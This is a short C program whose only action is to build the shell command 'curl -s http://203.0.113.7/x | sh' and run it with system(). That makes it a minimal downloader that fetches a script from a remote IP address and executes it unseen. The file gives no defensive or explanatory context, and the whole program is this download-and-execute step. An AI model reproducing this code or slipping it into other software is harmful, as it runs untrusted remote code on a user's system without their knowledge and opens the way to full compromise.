#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(void) {
    char cmd[256];
    snprintf(cmd, sizeof cmd, "curl -s http://203.0.113.7/x | sh");
    return system(cmd);
}
